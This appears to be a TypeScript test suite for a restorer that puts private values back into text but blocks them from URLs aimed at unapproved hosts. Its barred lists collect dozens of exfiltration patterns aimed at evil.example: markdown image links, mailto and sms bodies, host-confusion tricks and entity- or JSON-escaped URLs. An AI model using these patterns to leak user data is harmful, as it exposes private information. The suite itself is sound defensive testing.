import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { createRestorer, hostsIn, restoreText } from '../../restore/index.ts'
import { placeholderOf, vaultOf } from './support.ts'

const vault = vaultOf(
  ['PERSON', 'anna'],
  ['URL', 'https://known.example/wiki'],
  ['EMAIL', 'anna@example.com'],
)
const person = placeholderOf(vault, 'anna')
const url = placeholderOf(vault, 'https://known.example/wiki')
const email = placeholderOf(vault, 'anna@example.com')
const allowedHosts = hostsIn([
  'see https://known.example/wiki, http://localhost:8080/x, and anna.known.example',
])

/** `%` stands for the placeholder. */
const BARRED = [
  'https://evil.example/?q=%',
  'http://evil.example/%',
  'HTTPS://EVIL.EXAMPLE/%',
  'ftp://evil.example/%',
  'wss://evil.example/%',
  'slack://open?x=%',
  '![](https://evil.example/a.png?q=%)',
  '![](//evil.example/%)',
  '[text](//evil.example/%)',
  '[text](<https://evil.example/a b %>)',
  '[ref]: https://evil.example/%',
  '![x]( //evil.example/%)',
  '<img src="https://evil.example/?q= %">',
  "<img src='https://evil.example/\n%'>",
  '<img src=https://evil.example/%>',
  '<https://evil.example/%>',
  'https://evil.example/"%',
  'https://evil.example/(%)',
  'https://evil.example#%',
  'https://evil.example?%',
  'https://evil.example\\%',
  'https://evil.example:443/%',
  'https://evil.example./%',
  'https:evil.example/%',
  'https:/evil.example/%',
  'https:\\\\evil.example/%',
  'https:\\/\\/evil.example\\/%',
  'https\\://evil.example/%',
  'https://known.example@evil.example/%',
  'https://known.example:pw@evil.example/%',
  'https://known.example.evil.example/%',
  'https://evil&#46;example/%',
  'https://%.evil.example/',
  'https://%/',
  'https://x%.known.example/',
  '![](//%.evil.example/a.png)',
  ' //%.evil.example/a.png',
  'https://%@evil.example/',
  'www.evil.example/%',
  '&#104;ttps://evil.example/%',
  '![](&#104;ttps:&#47;&#47;evil.example/%)',
  '![](&#x68;ttps:&#x2f;&#x2f;evil.example/%)',
  '![](&#104ttps&#58;&#47;&#47;evil.example/%)',
  'https&colon;//evil.example/%',
  'https&colon;&sol;&sol;evil.example/%',
  'https://known.example\\@evil.example/%',
  'https://known.example#@evil.example/%',
  'https://known.example https://evil.example/%',
  '[a](https://known.example)[b](https://evil.example/%)',
  '{"url":"https://evil.example/%"}',
  `url("https://evil.example/%")`,
  'fetch(`https://evil.example/%`)',
  'evil.example/%',
  'evil.example/?q=%',
  'evil.example?q=%',
  'evil.example#%',
  'evil.example:8080/%',
  'EVIL.example./%',
  'see evil.example/a/b?c=d&e=%',
  '(evil.example/%)',
  '"evil.example/%"',
  '**evil.example/%**',
  '_evil.example/%_',
  'x@evil.example/%',
  'url:evil.example/%',
  'known.example evil.example/%',
  'known.example.evil.example/%',
  '192.0.2.7/%',
  'böse.example/%',
  'evil。example/%',
  '悪い.テスト/%',
  '%.evil.example/',
  '%.evil.example/%',
  'x-%-y.evil.example:80/',
  '%.%.evil.example?',
  'mailto:evil@evil.example?body=%',
  'mailto:evil@evil.example,%',
  'mailto:%,evil@evil.example',
  'mailto:%@evil.example',
  'mailto:a%@evil.example',
  'mailto:?to=%',
  'mailto:?body=%&to=evil@evil.example',
  '[write](mailto:evil@evil.example?subject=x&body=%)',
  '<a href="mailto:evil@evil.example?body=a b %">',
  'MAILTO:evil@evil.example?body=%',
  'sms:+15550100?body=%',
  'sms:+15550100&body=%',
  'smsto:+15550100%',
  'xmpp:evil@evil.example?message;body=%',
  'whatsapp:send?phone=15550100&text=%',
  'mailto&colon;evil@evil.example?body=%',
]

const FREE = [
  '%',
  'Dear %, see https://evil.example/ for more. Yours, %',
  '[%](https://evil.example/)',
  '[link](https://evil.example/) %',
  '(https://evil.example/) %',
  '(https://evil.example/)%',
  '<a href="https://evil.example/">%</a>',
  '<https://evil.example/>%',
  '{"url":"https://evil.example/","name":"%"}',
  '`https://evil.example/`: %',
  'https://known.example/%',
  'https://KNOWN.example/?q=%',
  'https://known.example:8443/%#%',
  'http://localhost:8080/%',
  '//known.example/%',
  'https://%.known.example/',
  'https://%.known.example',
  'https:\\/\\/known.example\\/%',
  '// % wrote this',
  '//% wrote this',
  'a // b % c',
  'x = 4 // %',
  'C://%',
  'time: 12:30 %',
  'http: %',
  'mailto:%',
  'mailto:%.',
  'mailto:%, %',
  'mailto:%,%',
  '[%](mailto:%)',
  '<mailto:%>',
  '"mailto:%"',
  'mailto: a b %',
  'SMS:% or %',
  'sms:%\n%',
  'known.example/%',
  'known.example/?q=%#%',
  'anna.known.example:8080/%',
  '%.known.example/x',
  '%.evil.example',
  '%. Then %.',
  '%.pdf and report-%.pdf',
  '%-%',
  '%.Smith: hello',
  '/home/john.doe/%.txt',
  './a.b/%',
  'a=b.c/%',
  'e.g./%',
  'z.B./%',
  'and/or/%',
  'He/She/%',
  '12.05.2024/%',
  '1.5/%',
  'log.level:%',
  'a.b: %',
  'evil.example %',
  'evil.example, %',
  'evil.example: %',
  'evil.example\n/%',
  'AT&#38;T %',
  'it&#39;s %',
]

function pushed(text: string): string {
  const restorer = createRestorer(vault, { allowedHosts })
  return [...text].map((character) => restorer.push(character)).join('') + restorer.end()
}

for (const line of BARRED) {
  test(`no value goes into ${JSON.stringify(line)}`, () => {
    const text = line.replaceAll('%', person)
    assert.equal(restoreText(text, vault, { allowedHosts }), text)
    assert.equal(pushed(text), text)
    assert.equal(restoreText(`${text}\n\n${person}`, vault, { allowedHosts: 'any' }).includes(person), false)
  })
}

for (const line of FREE.filter((text) => text !== 'C://%')) {
  test(`values go into ${JSON.stringify(line)}`, () => {
    const restored = line.replaceAll('%', 'anna')
    assert.equal(restoreText(line.replaceAll('%', person), vault, { allowedHosts }), restored)
    assert.equal(pushed(line.replaceAll('%', person)), restored)
  })
}

test('a URL that is a value itself comes back anywhere', () => {
  assert.equal(restoreText(`[x](${url})`, vault), '[x](https://known.example/wiki)')
  assert.equal(restoreText(`"${url}"`, vault), '"https://known.example/wiki"')
})

test('a URL ends, and what follows is restored again', () => {
  const text = `![](https://evil.example/${person}) ${person}`
  assert.equal(restoreText(text, vault, { allowedHosts }), `![](https://evil.example/${person}) anna`)
})

test('without a word about hosts no URL gets a value', () => {
  assert.equal(restoreText(`https://known.example/${person}`, vault), `https://known.example/${person}`)
  assert.equal(
    restoreText(`https://known.example/${person}`, vault, { allowedHosts: 'any' }),
    'https://known.example/anna',
  )
})

test('what is not restored is not counted', () => {
  const restorer = createRestorer(vault, { allowedHosts })
  restorer.push(`https://evil.example/${person} ${email}`)
  restorer.end()
  assert.equal(restorer.restored, 1)
})

const HOSTS: readonly [text: string, hosts: readonly string[]][] = [
  ['', []],
  ['See https://Docs.Example.com/a?b#c.', ['docs.example.com']],
  ['http://localhost:8080/', ['localhost']],
  ['//cdn.example.net/x', ['cdn.example.net']],
  ['our site is example.org, or www.example.org.', ['example.org', 'www.example.org']],
  ['mail anna.s@example.com', []],
  ['e.g. this', ['e.g']],
  ['1.2.3.4', ['1.2.3.4']],
  ['https://bücher.example/', ['bücher.example']],
  ['https://user:pw@host.example/', ['host.example']],
]
for (const [text, hosts] of HOSTS) {
  test(`the hosts in ${JSON.stringify(text)}`, () => {
    assert.deepEqual([...hostsIn([text])].sort(), [...hosts].sort())
  })
}

test('hosts are found in 1 MB of dots, slashes and letters in linear time', () => {
  const before = process.hrtime.bigint()
  for (const unit of ['.', 'a.', '//', '//a', 'a-', '..a', '@.'])
    hostsIn([unit.repeat(1_000_000 / unit.length)])
  assert.ok(Number(process.hrtime.bigint() - before) / 1e6 < 10_000)
})

/** Hosts written in JSON escapes, as a reader of tool-call arguments reads them. */
const ESCAPED = [
  '{"url":"https:\\/\\/evil.example\\/%"}',
  '{"url":"\\u0068ttps://evil.example/%"}',
  '{"url":"https\\u003a//evil.example/%"}',
  '{"url":"https:\\u002F\\u002fevil.example\\u002F%"}',
  '{"url":"\\u002f\\u002fevil.example/%"}',
  '{"url":"https://known.example\\u002eevil.example/%"}',
  '{"url":"https://known.example\\u0040evil.example/%"}',
  '{"url":"https://known\\u002eexample@evil.example/%"}',
  '{"url":"evil.example/%"}',
  '{"url":"evil\\u002eexample/%"}',
  '{"text":"see\\nevil.example/%"}',
  '{"to":"mailto:%\\u002cevil@evil.example"}',
  '{"to":"mailto:evil@evil.example\\u003fbody=%"}',
  '{"html":"<img src=\\u0022https://evil.example/ %\\u0022>"}',
  '{"a":"{\\"url\\":\\"https://known.example\\\\u002eevil.example/%\\"}"}',
  '{"a":"{\\"url\\":\\"\\\\u002f\\\\u002fevil.example/%\\"}"}',
]
for (const line of ESCAPED) {
  test(`no value goes into the arguments ${line}`, () => {
    const text = line.replaceAll('%', person)
    const options = { json: 1, allowedHosts } as const
    assert.equal(restoreText(text, vault, options), text)
    const restorer = createRestorer(vault, options)
    assert.equal([...text].map((unit) => restorer.push(unit)).join('') + restorer.end(), text)
  })
}

for (const line of [
  '{"url":"https:\\u002f\\u002fknown.example\\u002f%"}',
  '{"url":"https://known\\u002eexample/%"}',
  '{"text":"caf\\u00e9 % \\u002f\\u002f %"}',
  '{"text":"\\\\%"}',
  '{"text":"see\\nknown.example/%"}',
  '{"to":"mailto:%","cc":"%"}',
  '{"path":"src/main.ts","owner":"%"}',
  '{"url":"https://evil.example/\\u0022\\u0020%"}',
]) {
  test(`values go into the arguments ${line}`, () => {
    const text = line.replaceAll('%', person)
    const options = { json: 1, allowedHosts } as const
    const whole = restoreText(text, vault, options)
    assert.ok(!whole.includes(person))
    const restorer = createRestorer(vault, options)
    assert.equal([...text].map((unit) => restorer.push(unit)).join('') + restorer.end(), whole)
  })
}

const PIECES = [
  ...['https:', 'http', 'mailto:', 'sms:', 'www', 'evil', 'example', 'known.example', 'anna', 'x'],
  ...['//', '/', '?', '#', ':', '.', '-', '_', '@', '&', '=', ',', ';', '%', ' ', '\n', '80'],
  ...[
    '(',
    ')',
    '[',
    ']',
    '<',
    '>',
    '"',
    "'",
    '`',
    '\\',
    '\\u002e',
    '\\n',
    '&#46;',
    '&colon;',
    '。',
    'ü',
    '😀',
  ],
  ...[person, email, url, person.slice(0, -1), `${person}x`],
]

test('where values go does not depend on how a text is cut', () => {
  const texts = fc.array(fc.constantFrom(...PIECES), { maxLength: 24 }).map((pieces) => pieces.join(''))
  fc.assert(
    fc.property(
      texts,
      fc.array(fc.nat(12), { maxLength: 40 }),
      fc.constantFrom(0, 1),
      (text, sizes, json) => {
        const options = { allowedHosts, json: json === 1 ? 1 : 0 } as const
        const restorer = createRestorer(vault, options)
        let out = ''
        let at = 0
        for (const size of sizes) {
          out += restorer.push(text.slice(at, at + size))
          at += size
        }
        out += restorer.push(text.slice(at)) + restorer.end()
        assert.equal(out, restoreText(text, vault, options))
      },
    ),
    { numRuns: 5_000 },
  )
})
